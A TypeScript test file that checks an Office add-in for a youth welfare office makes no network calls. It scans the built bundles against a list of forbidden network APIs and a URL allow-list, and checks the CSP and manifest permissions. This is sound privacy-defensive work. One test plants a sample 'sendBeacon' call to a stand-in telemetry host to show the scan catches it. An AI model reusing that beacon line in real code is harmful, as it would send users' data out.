/**
 * Nothing sent: the add-in works on a Jugendamt's data and must not talk to anyone. This test scans the
 * production bundles for network calls and for URLs outside an allow-list (every allowed URL is justified
 * below), and checks the task pane's Content-Security-Policy and the manifest's permissions.
 *
 * Bundles: dist/*.js when dist/ is newer than every source file; otherwise a fresh
 * `webpack --mode production` into a temporary directory (dist/ itself is left to its owner).
 */
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";

const ROOT = path.join(__dirname, "..", "..");
const DIST = path.join(ROOT, "dist");

function newestMtime(dir: string, filter: (f: string) => boolean): number {
  let newest = 0;
  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, entry.name);
    if (entry.isDirectory()) newest = Math.max(newest, newestMtime(p, filter));
    else if (filter(entry.name)) newest = Math.max(newest, fs.statSync(p).mtimeMs);
  }
  return newest;
}

/** The directory holding up-to-date production bundles (builds them when dist/ is missing or stale). */
function bundleDir(): string {
  const sources = Math.max(
    newestMtime(path.join(ROOT, "src"), () => true),
    fs.statSync(path.join(ROOT, "webpack.config.js")).mtimeMs,
    fs.statSync(path.join(ROOT, "package-lock.json")).mtimeMs,
  );
  if (fs.existsSync(DIST) && newestMtime(DIST, (f) => f.endsWith(".js")) > sources) return DIST;
  const out = fs.mkdtempSync(path.join(os.tmpdir(), "srb-bundle-"));
  execFileSync(
    process.execPath,
    [
      path.join(ROOT, "node_modules", "webpack", "bin", "webpack.js"),
      "--mode",
      "production",
      "--output-path",
      out,
    ],
    { cwd: ROOT, stdio: "pipe", timeout: 600_000 },
  );
  return out;
}

/** Network APIs that must not appear at all (as a call or a reference). */
const FORBIDDEN: { name: string; pattern: RegExp }[] = [
  { name: "fetch(", pattern: /(?<![\w$.])fetch\s*\(|\.fetch\s*\(/g },
  { name: "XMLHttpRequest", pattern: /XMLHttpRequest/g },
  { name: "WebSocket", pattern: /WebSocket/g },
  { name: "sendBeacon", pattern: /sendBeacon/g },
  { name: "EventSource", pattern: /EventSource/g },
  { name: "importScripts(", pattern: /importScripts\s*\(/g },
];

/**
 * `importScripts` without a call: allowed only as feature detection, which never loads anything.
 * - `!x.importScripts`: the setImmediate polyfill (core-js / setimmediate, pulled in by exceljs) checks
 *   that it is not inside a web worker before it uses postMessage.
 * - `r.g.importScripts&&(e=r.g.location+"")`: webpack's runtime finds its public path from the location
 *   when it runs inside a worker.
 */
const IMPORT_SCRIPTS_DETECTION = [
  /!\w+\.importScripts/,
  /\w+\.g\.importScripts&&\(\w+=\w+\.g\.location\+""\)/,
];

/** Every URL a bundle may contain, and why it is harmless. Anything else fails the test. */
const ALLOWED_URLS: { pattern: RegExp; why: string }[] = [
  { pattern: /^https:\/\/localhost:3000(\/|$)/, why: "the add-in's own origin (development host)" },
  { pattern: /^https:\/\/appsforoffice\.microsoft\.com\/lib\/1\/hosted\//, why: "Microsoft's Office.js CDN" },
  {
    pattern: /^http:\/\/schemas\.openxmlformats\.org\/[\w/.-]+$/,
    why: "OOXML namespace and relationship-type URIs written into .xlsx parts by exceljs (identifiers, never requested)",
  },
  {
    pattern: /^http:\/\/schemas\.microsoft\.com\/office\/[\w/.-]+$/,
    why: "Microsoft Office XML namespace URIs in .xlsx parts (identifiers)",
  },
  {
    pattern:
      /^http:\/\/www\.w3\.org\/(1999\/xlink|2000\/svg|2000\/xmlns\/|XML\/1998\/namespace|1998\/Math\/MathML|2001\/XMLSchema-instance)$/,
    why: "XML, SVG, XLink, MathML and XML-Schema namespace URIs (React DOM, exceljs)",
  },
  {
    pattern: /^http:\/\/purl\.oclc\.org\/ooxml\/officeDocument\/relationships(\/[\w/.-]+)?$/,
    why: "Strict OOXML relationship namespace: the package reader recognises parts written by strict-mode tools (an identifier, never requested)",
  },
  {
    pattern: /^http:\/\/purl\.oclc\.org\/ooxml\/officeDocument\/relationships(\/[\w/.-]+)?$/,
    why: "Strict OOXML relationship namespace: the package reader recognises parts of strict-mode writers (an identifier, never requested)",
  },
  {
    pattern: /^http:\/\/purl\.org\/dc\/(terms|elements\/1\.1|dcmitype)\/$/,
    why: "Dublin Core namespaces of docProps/core.xml",
  },
  {
    pattern: /^https?:\/\/json-schema\.org\/(draft-0[47]\/schema#|draft\/2020-12\/schema)$/,
    why: "zod's toJSONSchema writes these as the $schema identifier; nothing is fetched",
  },
  {
    pattern: /^https:\/\/react\.dev\/errors\/$/,
    why: "text of React's minified error messages (a link for the developer)",
  },
  {
    pattern: /^http:\/\/\[\$\{\w+\}\]$/,
    why: "zod's IPv6 check builds `new URL(`http://[${value}]`)` to parse an address; no request",
  },
  {
    pattern: /^https:\/\/github\.com\/exceljs\/exceljs\/blob\/master\/UPGRADE-4\.0\.md$/,
    why: "text of an exceljs error message",
  },
  {
    pattern: /^https:\/\/stuk\.github\.io\/jszip\/documentation\/howto\/read_zip\.html$/,
    why: "text of a JSZip error message",
  },
  {
    pattern: /^https:\/\/github\.com\/zloirock\/core-js(\/blob\/v[\d.]+\/LICENSE)?$/,
    why: "core-js's copyright and licence string (kept by its licence)",
  },
  {
    pattern: /^https:\/\/github\.com\/uuidjs\/uuid#getrandomvalues-not-supported$/,
    why: "text of a uuid error message",
  },
  {
    pattern: /^https:\/\/github\.com\/indutny\/elliptic(\/issues)?$/,
    why: "elliptic's package.json fields (homepage, bugs) bundled by the crypto polyfill",
  },
  {
    pattern: /^https:\/\/github\.com\/crypto-browserify\/crypto-browserify$/,
    why: "text of a crypto-browserify error message",
  },
];

const URL_PATTERN = /https?:\/\/[^\s"'`)<>\\,]+/g;

let dir: string;
let bundles: { name: string; text: string }[];
beforeAll(() => {
  dir = bundleDir();
  bundles = fs
    .readdirSync(dir)
    .filter((f) => f.endsWith(".js"))
    .map((name) => ({ name, text: fs.readFileSync(path.join(dir, name), "utf8") }));
}, 600_000);
afterAll(() => {
  if (dir !== undefined && dir !== DIST) fs.rmSync(dir, { recursive: true, force: true });
});

test("the bundles exist: task pane and functions", () => {
  const names = bundles.map((b) => b.name);
  for (const expected of ["taskpane.js", "functions.js"]) expect(names).toContain(expected);
  expect(bundles.reduce((s, b) => s + b.text.length, 0)).toBeGreaterThan(100_000);
});

test("no network API in any bundle: fetch, XMLHttpRequest, WebSocket, sendBeacon, EventSource, importScripts()", () => {
  const hits = bundles.flatMap((b) =>
    FORBIDDEN.flatMap(({ name, pattern }) =>
      [...b.text.matchAll(pattern)].map(
        (m) => `${b.name}: ${name} … ${b.text.slice(m.index - 60, m.index + 60)}`,
      ),
    ),
  );
  expect(hits).toEqual([]);
});

test("importScripts appears only as feature detection", () => {
  const unexplained = bundles.flatMap((b) =>
    [...b.text.matchAll(/.{0,40}importScripts.{0,30}/g)]
      .map((m) => m[0])
      .filter((context) => !IMPORT_SCRIPTS_DETECTION.some((p) => p.test(context)))
      .map((context) => `${b.name}: ${context}`),
  );
  expect(unexplained).toEqual([]);
});

test("every URL in the bundles is on the allow-list", () => {
  const urls = new Set(bundles.flatMap((b) => [...b.text.matchAll(URL_PATTERN)].map((m) => m[0])));
  expect(urls.size).toBeGreaterThan(0);
  const unexplained = [...urls].filter((u) => !ALLOWED_URLS.some((a) => a.pattern.test(u)));
  expect(unexplained).toEqual([]);
  // the OOXML namespaces are certainly there (exceljs); an allow-list entry for them proves the scan works
  expect([...urls].some((u) => u.startsWith("http://schemas.openxmlformats.org/"))).toBe(true);
});

test("a planted call and a planted URL would be caught (the scan can fail)", () => {
  const planted = 'x=1;navigator.sendBeacon("https://telemetrie.example/t",d);window.fetch("/api")';
  expect(
    FORBIDDEN.filter(({ pattern }) => [...planted.matchAll(pattern)].length > 0).map((f) => f.name),
  ).toEqual(["fetch(", "sendBeacon"]);
  const urls = [...planted.matchAll(URL_PATTERN)].map((m) => m[0]);
  expect(urls.filter((u) => !ALLOWED_URLS.some((a) => a.pattern.test(u)))).toEqual([
    "https://telemetrie.example/t",
  ]);
});

test("taskpane.html: CSP allows scripts only from 'self' and the Office.js CDN, connections only to 'self'", () => {
  const html = fs.readFileSync(path.join(ROOT, "src", "taskpane", "taskpane.html"), "utf8");
  const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/i.exec(html);
  expect(meta).not.toBeNull();
  const directives = new Map(
    meta![1]
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map((d) => [d[0], d.slice(1)] as const),
  );
  expect(directives.get("default-src")).toEqual(["'self'"]);
  expect(directives.get("connect-src")).toEqual(["'self'"]);
  const scripts = directives.get("script-src") ?? [];
  expect(scripts).toContain("'self'");
  for (const source of scripts) {
    expect(
      ["'self'", "https://appsforoffice.microsoft.com"].some(
        (a) => source === a || source.startsWith(`${a}/`),
      ),
    ).toBe(true);
  }
  // every external script tag is Office.js from the CDN
  const srcs = [...html.matchAll(/<script[^>]*\ssrc="([^"]+)"/g)].map((m) => m[1]);
  for (const src of srcs.filter((s) => /^https?:/.test(s))) {
    expect(src).toMatch(/^https:\/\/appsforoffice\.microsoft\.com\/lib\/1\/hosted\/office\.js$/);
  }
});

test("standalone.html: CSP allows scripts and connections only from 'self', no plugins, no foreign base", () => {
  const html = fs.readFileSync(path.join(ROOT, "src", "taskpane", "standalone.html"), "utf8");
  const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/i.exec(html);
  expect(meta).not.toBeNull();
  const directives = new Map(
    meta![1]
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map((d) => [d[0], d.slice(1)] as const),
  );
  expect(directives.get("default-src")).toEqual(["'self'"]);
  expect(directives.get("script-src")).toEqual(["'self'"]);
  expect(directives.get("connect-src")).toEqual(["'self'"]);
  expect(directives.get("object-src")).toEqual(["'none'"]);
  expect(directives.get("base-uri")).toEqual(["'self'"]);
  // images may come from the page, data: and blob: only; styles from the page and Fluent's inline styles
  for (const source of directives.get("img-src") ?? [])
    expect(["'self'", "data:", "blob:"]).toContain(source);
  expect(directives.get("style-src")).toEqual(["'self'", "'unsafe-inline'"]);
  // no script from anywhere else, not even Office.js
  expect([...html.matchAll(/<script[^>]*\ssrc="([^"]+)"/g)].map((m) => m[1])).toEqual([]);
});

test("standalone.html names its own icon, one that is built into dist/assets (no request for /favicon.ico)", () => {
  // without a <link rel="icon"> Chromium asks for /favicon.ico; the local server's 404 is a console error
  const html = fs.readFileSync(path.join(ROOT, "src", "taskpane", "standalone.html"), "utf8");
  const icon = /<link\s+rel="icon"[^>]*\shref="([^"]+)"/i.exec(html);
  expect(icon).not.toBeNull();
  expect(icon![1]).toMatch(/^assets\/icon-\d+\.png$/);
  expect(fs.existsSync(path.join(ROOT, icon![1]))).toBe(true);
});

test("manifest.xml: ReadWriteDocument and no AppDomains", () => {
  const manifest = fs.readFileSync(path.join(ROOT, "manifest.xml"), "utf8");
  expect(manifest).toMatch(/<Permissions>\s*ReadWriteDocument\s*<\/Permissions>/);
  expect(manifest).not.toMatch(/<AppDomains?[\s>]/);
});
